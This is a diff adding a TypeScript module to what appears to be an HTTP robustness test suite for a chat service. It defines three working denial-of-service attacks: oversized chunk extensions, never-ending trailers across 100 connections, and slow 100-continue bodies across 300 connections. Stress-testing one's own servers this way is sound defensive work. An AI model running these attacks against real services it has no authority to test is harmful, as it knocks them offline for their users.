@@ -1,0 +1,75 @@
+import type { Socket } from "node:net";
+import { toBody } from "../ask.ts";
+import { bound, figure } from "../row.ts";
+import type { Row } from "../row.ts";
+import { chatHead, closeAll, open, openMany, pause, repeatedly } from "../sockets.ts";
+
+/** Writes as fast as the reader takes it, until the signal or the end of the connection. */
+async function pour(socket: Socket, text: string, signal: AbortSignal): Promise<number> {
+  let bytes = 0;
+  while (!signal.aborted && !socket.destroyed) {
+    bytes += text.length;
+    if (socket.write(text)) await pause(0, signal);
+    else await Promise.race([new Promise((resolve) => void socket.once("drain", resolve)), pause(1000, signal)]);
+  }
+  return bytes;
+}
+
+const extended = `1;${"x".repeat(15_000)}=1\r\n \r\n`.repeat(10);
+
+export const bodyChunkExtensions: Row = {
+  name: "body/chunk-extensions",
+  action: "bodies in chunks of one byte with 15 KB of extensions each, as fast as they are taken, on four connections",
+  engine: "scripted",
+  attack: async ({ target, signal, makeKey }) => {
+    const { token } = await makeKey();
+    let bytes = 0;
+    await repeatedly(4, signal, async () => {
+      const socket = await open(target.origin);
+      socket.resume().write(chatHead(token, { "transfer-encoding": "chunked" }));
+      bytes += await pour(socket, extended, signal);
+      closeAll([socket]);
+    });
+    return [figure("megabytes", (bytes / 1e6).toFixed(1))];
+  },
+};
+
+export const bodyTrailers: Row = {
+  name: "body/trailers",
+  action: "whole bodies with trailers that never end, a field every 500 ms, on 100 connections",
+  engine: "scripted",
+  attack: async ({ target, signal, makeKey }) => {
+    const { token } = await makeKey();
+    const body = JSON.stringify(toBody({}));
+    const chunk = `${body.length.toString(16)}\r\n${body}\r\n0\r\n`;
+    const sockets = await openMany(target.origin, 100);
+    for (const socket of sockets) socket.resume().write(chatHead(token, { "transfer-encoding": "chunked" }) + chunk);
+    while (!signal.aborted) {
+      for (const socket of sockets) if (socket.writable) socket.write("trailer: a\r\n");
+      await pause(500, signal);
+    }
+    closeAll(sockets);
+    return [figure("connections", sockets.length)];
+  },
+};
+
+export const bodyContinue: Row = {
+  name: "body/continue",
+  action: "300 connections that wait for 100-continue and then send a byte of their body a second",
+  engine: "scripted",
+  attack: async ({ target, signal, makeKey }) => {
+    const { token } = await makeKey();
+    const sockets = await openMany(target.origin, 300);
+    let answers = 0;
+    for (const socket of sockets) {
+      socket.on("data", (bytes: Buffer) => (answers += bytes.toString("latin1").startsWith("HTTP/1.1 100") ? 0 : 1));
+      socket.write(chatHead(token, { expect: "100-continue", "content-length": "1000" }));
+    }
+    while (!signal.aborted) {
+      for (const socket of sockets) if (socket.writable) socket.write(" ");
+      await pause(1000, signal);
+    }
+    closeAll(sockets);
+    return [bound("nothing is answered before its time", answers === 0, answers)];
+  },
+};
